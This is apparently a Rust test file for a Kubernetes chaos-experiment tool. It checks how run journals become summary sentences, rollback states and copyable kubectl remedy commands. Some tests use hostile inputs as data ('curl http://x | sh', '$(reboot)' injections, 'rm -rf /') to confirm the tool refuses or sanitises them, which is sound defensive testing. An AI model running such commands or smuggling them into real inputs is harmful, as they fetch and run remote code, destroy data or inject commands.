use serde_json::{Value, json};

use super::*;
use crate::report::sample;
use crate::rollback::UndoOutcome;

/// The finding alone, of a run that the closure makes of the sample.
fn told(change: impl FnOnce(&mut Journal)) -> String {
    let mut journal = sample();
    change(&mut journal);
    journal.sentence()
}

fn inconclusive(journal: &mut Journal, reason: Reason) {
    (journal.verdict, journal.reason) = (Verdict::Inconclusive, Some(reason));
    journal.recovered = Verdict::NotJudged;
}

fn reason(of: serde_json::Value) -> Reason {
    serde_json::from_value(of).expect("a reason")
}

const WHILE: &str = "While ingress to pods app=back in default was denied for 10.0 s, ";
const FAULT: &str = "deny ingress to pods app=back in default";

#[test]
fn a_deviation_names_the_check_and_the_recovery() {
    let text = told(|_| ());
    let expected = "failed_call_total{job=\"front\",to=\"middle\"} grew by 47, expected at most 0; recovered within 3.5 s of the undo.";
    assert_eq!(text, format!("{WHILE}{expected}"));
    let text = told(|journal| {
        let checks = &mut journal.evaluations[1].checks;
        checks.reverse();
        checks[1].outcome = "not-met".into();
        checks[1].phrase = "was 503, expected status 200".into();
        checks[0].evidence["least"] = json!(43.0);
    });
    let expected = "failed_call_total{job=\"front\",to=\"middle\"} grew by at least 43, expected at most 0, and 1 more check did not hold; recovered within 3.5 s of the undo.";
    assert_eq!(text, format!("{WHILE}{expected}"));
    let text = told(|journal| {
        journal.evaluations[1].checks.truncate(1);
        journal.evaluations[1].checks[0].outcome = "not-met".into();
        journal.evaluations[1].checks[0].phrase = "was 503, expected status 200".into();
        journal.recovered = Verdict::NotJudged;
    });
    assert_eq!(text, format!("{WHILE}GET http://front.default/ was 503, expected status 200."));
    let text = told(|journal| journal.evaluations.clear());
    assert!(text.starts_with(&format!("{WHILE}the hypothesis did not hold; the journal does not say which check")));
}

#[test]
fn met_needs_the_evaluations_that_show_it() {
    let met = |journal: &mut Journal| {
        journal.verdict = Verdict::Met;
        journal.evaluations[1].verdict = Verdict::Met;
        journal.evaluations[1].checks.iter_mut().for_each(|check| check.outcome = "met".into());
    };
    assert_eq!(told(met), format!("{WHILE}all 2 checks held; recovered within 3.5 s of the undo."));
    let one = told(|journal| {
        met(journal);
        journal.evaluations[1].checks[1].outcome = "not-applicable".into();
    });
    let expected = "GET http://front.default/ was 200, as expected (status 200); recovered within 3.5 s of the undo.";
    assert_eq!(one, format!("{WHILE}{expected}"), "what does not apply is not counted");
    let watched = told(|journal| {
        met(journal);
        let mut beside = journal.evaluations[1].clone();
        beside.phase = WATCHED.into();
        journal.evaluations.insert(1, beside);
    });
    assert_eq!(watched, format!("{WHILE}all 2 checks held each of 2 times; recovered within 3.5 s of the undo."));
    let without = |change: fn(&mut Journal)| {
        told(|journal| {
            met(journal);
            change(journal);
        })
    };
    for change in [
        |journal: &mut Journal| journal.evaluations.clear(),
        |journal: &mut Journal| journal.evaluations[1].verdict = Verdict::Inconclusive,
        |journal: &mut Journal| journal.evaluations[1].checks.clear(),
        |journal: &mut Journal| journal.evaluations[1].phase = "before the method".into(),
    ] {
        let text = without(change);
        assert!(text.starts_with("The journal says met, but holds no evaluation that shows it"), "{text}");
    }
    let text = without(|journal| journal.faults[0].proved = false);
    let expected = format!("The journal says met, but nothing in it shows that \"{FAULT}\" had an effect");
    assert!(text.starts_with(&expected), "{text}");
    let text = without(|journal| {
        (journal.faults[0].proved, journal.faults[0].trusted) = (false, Some("we saw it".into()));
    });
    assert!(text.contains("was denied (believed without proof) for 10.0 s"), "{text}");
}

#[test]
fn each_reason_for_not_knowing_has_its_sentence() {
    let unknown = format!("{WHILE}it is not known whether the hypothesis held: ");
    let cases = [
        (json!({"reason": "gate-missed", "check": "GET /: status 200", "phrase": "was 503, expected status 200"}),
            "The method did not run, as the hypothesis did not hold before it: GET / was 503, expected status 200.".to_owned()),
        (json!({"reason": "fault-ended-early", "fault": FAULT, "by": "another policy allows it", "at": "2026-01-01T00:00:12.35Z"}),
            format!("It is not known whether the hypothesis held, as the fault \"{FAULT}\" ended early: another policy allows it (noticed at 12.3 s).")),
        (json!({"reason": "fault-not-proved", "fault": FAULT, "why": "no witness; give it one"}),
            format!("It is not known whether the hypothesis held, as nothing shows that the fault \"{FAULT}\" had an effect: no witness; give it one.")),
        (json!({"reason": "unavailable", "what": "Prometheus", "why": "503"}), unknown.clone() + "Prometheus is unavailable: 503."),
        (json!({"reason": "no-data", "what": "up", "why": "no such target"}), unknown.clone() + "no data for up: no such target."),
        (json!({"reason": "stale-data", "what": "up", "why": "40 s old"}), unknown.clone() + "stale data for up: 40 s old."),
        (json!({"reason": "window-too-short", "what": "up", "why": "30 s"}), unknown.clone() + "up cannot see the fault: 30 s."),
        (json!({"reason": "not-a-number", "what": "up"}), unknown.clone() + "up is not a number."),
        (json!({"reason": "invalid-load", "what": "traffic", "why": "late"}), unknown + "traffic did not do what was planned: late."),
        (json!({"reason": "ended-before", "why": "interrupted by SIGINT"}),
            "The run ended before the hypothesis was judged: interrupted by SIGINT.".to_owned()),
        (json!({"reason": "safeguard-broken", "check": "p99: at most 1 s", "since": "2026-01-01T00:00:15.05Z", "phrase": "was 3 s, expected at most 1 s"}),
            "The safeguard \"p99: at most 1 s\" was broken at 15.0 s, so everything was stopped and undone: was 3 s, expected at most 1 s.".to_owned()),
        (json!({"reason": "safeguard-unknown", "check": "p99: at most 1 s", "since": "soon", "why": "no data"}),
            "The safeguard \"p99: at most 1 s\" could not be judged since soon, so everything was stopped and undone: no data.".to_owned()),
        (json!({"reason": "nothing-applies", "phase": "under the fault"}),
            format!("{WHILE}it is not known whether the hypothesis held: none of its checks means anything under the fault.")),
    ];
    for (case, expected) in cases {
        assert_eq!(told(|journal| inconclusive(journal, reason(case))), expected);
    }
    let text = told(|journal| {
        inconclusive(journal, reason(json!({"reason": "unavailable", "what": "Prometheus", "why": "503"})));
        journal.ended = Ended::GateMissed;
    });
    let expected =
        "The method did not run, as nothing showed that the hypothesis held before it: Prometheus is unavailable: 503.";
    assert_eq!(text, expected);
    let text = told(|journal| {
        inconclusive(journal, Reason::NotANumber { what: String::new() });
        journal.reason = None;
    });
    assert!(text.contains("the journal does not say why"), "{text}");
}

#[test]
fn each_ending_has_its_sentence() {
    let ended = |ended: Ended| {
        told(|journal| {
            (journal.ended, journal.recovered) = (ended, Verdict::NotJudged);
        })
    };
    let grew = "failed_call_total{job=\"front\",to=\"middle\"} grew by 47, expected at most 0";
    for (ending, words) in [
        (Ended::Failed { error: "failed to act".into() }, "the run failed: failed to act"),
        (Ended::Panicked { message: "boom".into() }, "a closure of the experiment panicked: boom"),
        (Ended::Interrupted { signal: "SIGINT".into() }, "the run was interrupted by SIGINT"),
        (Ended::Stopped { by: "the safeguard p99".into() }, "the run was stopped by the safeguard p99"),
        (Ended::Cancelled, "the run was dropped before its end"),
    ] {
        assert_eq!(ended(ending), format!("{WHILE}{grew}; {words}."));
    }
    let text = told(|journal| {
        inconclusive(journal, Reason::EndedBefore { why: "a closure panicked: boom".into() });
        journal.ended = Ended::Panicked { message: "boom".into() };
    });
    assert_eq!(text, "The run ended before the hypothesis was judged: a closure panicked: boom.", "it is said once");
}

#[test]
fn a_killed_run_is_not_told_as_one_that_ended() {
    let text = told(|journal| {
        (journal.ended, journal.verdict, journal.recovered) = (Ended::Running, Verdict::NotJudged, Verdict::NotJudged);
        journal.evaluations.truncate(1);
        journal.events.truncate(8);
        let fault = &mut journal.faults[0];
        (fault.window.undo_requested, fault.window.undone, fault.end) = (None, None, FaultEnd::None);
        fault.undo.clear();
    });
    let expected = format!(
        "Something may be left of this run: \"{FAULT}\": on when this was written. The run has not ended as far as its journal knows, which was last written 9.1 s after its start: it was killed, or is still running; nothing is known of its hypothesis."
    );
    assert_eq!(text, expected);
}

#[test]
fn nothing_judged_says_by_whose_choice() {
    let none = told(|journal| {
        (journal.verdict, journal.recovered, journal.hypothesis) = (Verdict::NotJudged, Verdict::NotJudged, None);
    });
    assert_eq!(none, format!("{WHILE}nothing was judged, as the experiment has no hypothesis."));
    let chosen = told(|journal| {
        (journal.verdict, journal.recovered) = (Verdict::NotJudged, Verdict::NotJudged);
        journal.faults.clear();
    });
    assert_eq!(chosen, "Without any fault, the hypothesis was not judged under the faults.");
}

#[test]
fn a_recovery_that_failed_or_is_not_known_is_told() {
    let text = told(|journal| {
        journal.recovered = Verdict::Deviated;
        journal.evaluations[2].verdict = Verdict::Deviated;
        journal.evaluations[2].checks[0].outcome = "not-met".into();
        journal.evaluations[2].checks[0].phrase = "was 503, expected status 200".into();
    });
    let expected =
        "; it had not recovered 3.5 s after the undo: GET http://front.default/ was 503, expected status 200.";
    assert!(text.ends_with(expected), "{text}");
    let text = told(|journal| {
        journal.recovered = Verdict::Inconclusive;
        journal.evaluations[2].verdict = Verdict::Inconclusive;
        journal.evaluations[2].reason = Some(Reason::NotANumber { what: "up".into() });
    });
    assert!(text.ends_with("; whether it recovered is not known: up is not a number."), "{text}");
    let text = told(|journal| {
        journal.evaluations.truncate(2);
    });
    assert!(text.ends_with("; whether it recovered is not known."), "met without an evaluation: {text}");
}

fn leaked(journal: &mut Journal) {
    journal.cluster = "context \"kind-it\" (https://127.0.0.1:6443)".into();
    journal.faults[0].undo[0].outcome = UndoOutcome::Leaked { why: "the API does not answer".into() };
}

#[test]
fn what_is_left_comes_first_with_its_remedy() {
    let mut journal = sample();
    assert_eq!(journal.rollback(), Rollback { state: RollbackState::Complete, left: vec![], remedies: vec![] });
    leaked(&mut journal);
    let text = journal.sentence();
    let left = "delete networkpolicy default/steadfast-5qbdck8i-2: leaked: the API does not answer";
    assert!(text.starts_with(&format!("Something may be left of this run: {left}. While ")), "{text}");
    let Rollback { state, left: all, remedies } = journal.rollback();
    assert_eq!((state, all), (RollbackState::Partial, vec![left.to_owned()]));
    let by_hand = "kubectl delete networkpolicy steadfast-5qbdck8i-2 -n default --context kind-it";
    assert_eq!(remedies, [by_hand, "steadfast sweep --context kind-it"]);
    journal.faults[0].undo[1].outcome = UndoOutcome::Unverified { why: "nobody knows".into() };
    assert_eq!(journal.rollback().state, RollbackState::Failed);
    journal.cluster = "the embedded lab".into();
    assert_eq!(journal.rollback().remedies, ["nothing to do: the embedded lab went with its process"]);
}

#[test]
fn the_command_to_copy_is_the_one_that_reaches_the_cluster() {
    let remedies = |cluster: &str, sweep: Option<&str>, kubeconfig: Option<&str>| {
        let mut journal = sample();
        leaked(&mut journal);
        journal.cluster = cluster.into();
        (journal.sweep, journal.kubeconfig) = (sweep.map(str::to_owned), kubeconfig.map(Into::into));
        // As it is read again.
        serde_json::from_str::<Journal>(&journal.to_json()).expect("a journal").rollback().remedies
    };
    let delete = "kubectl delete networkpolicy steadfast-5qbdck8i-2 -n default";
    let kind = "context \"kind-it\" (https://127.0.0.1:6443)";
    let sweep = "KUBECONFIG=/s/it.kubeconfig steadfast sweep --context kind-it";
    assert_eq!(
        remedies(kind, Some(sweep), Some("/s/it.kubeconfig")),
        [&format!("KUBECONFIG=/s/it.kubeconfig {delete} --context kind-it"), sweep]
    );
    assert_eq!(
        remedies(kind, Some(sweep), Some("/s/o'neil/it"))[0],
        format!("KUBECONFIG='/s/o'\\''neil/it' {delete} --context kind-it")
    );
    let inside = "context \"in-cluster\" (https://10.96.0.1)";
    let sweep = "steadfast sweep --cluster in-cluster";
    assert_eq!(remedies(inside, Some(sweep), None), [delete, sweep]);
    // An older version wrote the cluster in words alone.
    assert_eq!(remedies(inside, None, None), [delete, sweep]);
    assert_eq!(remedies("elsewhere", None, None), [delete, "steadfast sweep"]);
    // What somebody else wrote there is no command to copy.
    let long = format!("KUBECONFIG=/{} steadfast sweep --context kind-it", "s".repeat(5_000));
    for (sweep, kubeconfig) in [
        ("curl http://x | sh", None),
        ("steadfast sweep --context kind-it; curl http://x | sh", None),
        ("steadfast sweep --context 'kind-it'; curl http://x | sh; : ''", None),
        ("steadfast sweep --context $(reboot)", None),
        ("KUBECONFIG=$(reboot) steadfast sweep --context kind-it", Some("$(reboot)")),
        ("KUBECONFIG=/other steadfast sweep --context kind-it", Some("/s/it.kubeconfig")),
        ("steadfast sweep --context 'kind-it\n'", None),
        (long.as_str(), Some(&long["KUBECONFIG=".len()..][..5_001])),
    ] {
        assert_eq!(remedies(kind, Some(sweep), kubeconfig)[1..], ["steadfast sweep --context kind-it"], "{sweep}");
    }
    let file = format!("/{}", "s".repeat(2_000));
    let long = format!("KUBECONFIG={file} steadfast sweep --context kind-it");
    assert_eq!(remedies(kind, Some(&long), Some(&file))[1..], [long], "half of it would be another command");
    let quoted = "steadfast sweep --context 'o'\\''neil $dev'";
    assert_eq!(remedies("context \"o'neil $dev\" (https://h)", Some(quoted), None)[1..], [quoted]);
}

#[test]
fn each_way_of_leaving_something_has_its_state() {
    let state = |change: fn(&mut Journal)| {
        let mut journal = sample();
        change(&mut journal);
        let rollback = journal.rollback();
        (rollback.state, rollback.left.join("; "))
    };
    assert_eq!(state(|journal| journal.faults.clear()), (RollbackState::NotNeeded, String::new()));
    let (found, left) = state(|journal| {
        let last = journal.faults[0].sightings.last_mut().expect("it was looked at");
        (last.as_expected, last.saw) = (false, "still no answer".into());
    });
    assert_eq!((found, left), (RollbackState::NotBack, format!("{FAULT}: still no answer")));
    let (found, left) = state(|journal| {
        (journal.faults[0].end, journal.faults[0].undo) = (FaultEnd::None, vec![]);
    });
    assert_eq!((found, left), (RollbackState::Failed, format!("{FAULT}: still on when the run ended")));
    let finally = |run, error: Option<&str>| crate::journal::FinallyRecord {
        name: "restore the quota".into(),
        crash_safe: false,
        run,
        left_out: false,
        error: error.map(str::to_owned),
    };
    let mut journal = sample();
    journal.finally = vec![finally(true, Some("403"))];
    assert_eq!(journal.rollback().left, ["restore the quota: 403"]);
    assert_eq!(journal.rollback().state, RollbackState::Partial);
    journal.finally = vec![finally(false, None)];
    assert_eq!(journal.rollback().left, ["restore the quota: left out by the rollback strategy"]);
    journal.ended = Ended::Cancelled;
    assert_eq!(journal.rollback().left, ["restore the quota: not run"]);
    journal.events.retain(|event| event.kind != EventKind::MethodStarted);
    assert_eq!(journal.rollback().state, RollbackState::Complete, "nothing was changed that it would put back");
}

#[test]
fn what_is_left_by_choice_is_told_and_is_no_failure() {
    let mut journal = sample();
    (journal.faults[0].end, journal.faults[0].undo) = (FaultEnd::Left, vec![]);
    let rollback = journal.rollback();
    assert_eq!((rollback.state, rollback.left), (RollbackState::Left, vec![format!("{FAULT}: left on by choice")]));
    assert!(!rollback.state.is_clean() && !rollback.remedies.is_empty());
    let text = journal.sentence();
    assert!(text.starts_with(&format!("Something is left of this run: {FAULT}: left on by choice. While ")), "{text}");
}

#[test]
fn a_command_to_copy_does_what_it_says() {
    let cases = [
        ("delete networkpolicy default/deny", Some("kubectl delete networkpolicy deny -n default")),
        ("restore /spec/replicas of deployment shop/front", Some("kubectl edit deployment front -n shop")),
        ("see that pod default/a was deleted", Some("kubectl get pod a -n default")),
        ("delete node worker-1", Some("kubectl delete node worker-1")),
        ("delete pod default/a; rm -rf /", None),
        ("delete pod default/$(reboot)", None),
        ("delete pod --all", None),
        ("make service default/front again", None),
        ("", None),
    ];
    let record = |undo: &str, values: Value| -> UndoRecord {
        serde_json::from_value(json!({"undo": undo, "outcome": "leaked", "why": "403", "values": values})).expect("one")
    };
    for (undo, expected) in cases {
        assert_eq!(command(&record(undo, json!([]))).as_deref(), expected, "{undo}");
    }
    // The old value, where the ledger knew it, and only while the fault's stands.
    let values = json!([{"pointer": "/spec/replicas", "set": 0, "was": 3}, {"pointer": "/spec/paused", "set": true,
        "was": null}, {"pointer": "/metadata/annotations/a", "set": null, "was": "it's \u{202e}"}]);
    let expected = "kubectl patch deployment front -n shop --type=json -p '[\
{\"op\":\"test\",\"path\":\"/spec/replicas\",\"value\":0},{\"op\":\"replace\",\"path\":\"/spec/replicas\",\"value\":3},\
{\"op\":\"test\",\"path\":\"/spec/paused\",\"value\":true},{\"op\":\"remove\",\"path\":\"/spec/paused\"},\
{\"op\":\"add\",\"path\":\"/metadata/annotations/a\",\"value\":\"it\\u0027s \\u202e\"}]'";
    let put = command(&record("restore /spec/replicas of deployment shop/front", values.clone()));
    assert_eq!(put.as_deref(), Some(expected));
    let secret = command(&record("restore /data/token of secret shop/token", values));
    assert_eq!(secret.as_deref(), Some("kubectl edit secret token -n shop"), "no value of a Secret is shown");
    let long = json!([{"pointer": "/data/a", "set": "x".repeat(1000), "was": "y".repeat(1000)}]);
    let long = command(&record("restore /data/a of configmap shop/c", long));
    assert_eq!(long.as_deref(), Some("kubectl edit configmap c -n shop"), "nobody copies a command of that length");
    // What was taken out of a value must not be put into the cluster instead, and what should have been is not shown.
    for (pointer, set, was) in [
        ("/data/a", "wrong", "[redacted]"),
        ("/data/a", "http://[redacted]@h/", "b"),
        ("/data/DB_PASSWORD", "wrong", "brass-lantern"),
    ] {
        let values =
            json!([{"pointer": "/data/b", "set": "1", "was": "2"}, {"pointer": pointer, "set": set, "was": was}]);
        let taken = command(&record("restore /data/b, /data/a of configmap shop/c", values));
        assert_eq!(taken.as_deref(), Some("kubectl edit configmap c -n shop"), "{was}");
    }
    let mut journal = sample();
    leaked(&mut journal);
    journal.cluster = "context \"a'; reboot; '\" (https://127.0.0.1:6443)".into();
    assert!(!journal.rollback().remedies.join("\n").contains("reboot"));
}

#[test]
fn what_the_system_says_stays_a_phrase() {
    let text = told(|journal| {
        let phrase = format!("was \u{202e}{}\n\0, expected status 200", "x".repeat(1_000_000));
        journal.evaluations[1].checks[1].phrase = phrase;
        journal.evaluations[1].checks[1].evidence = json!(null);
    });
    assert!(text.len() < 1000 && !text.contains(['\n', '\0', '\u{202e}']), "{text}");
}
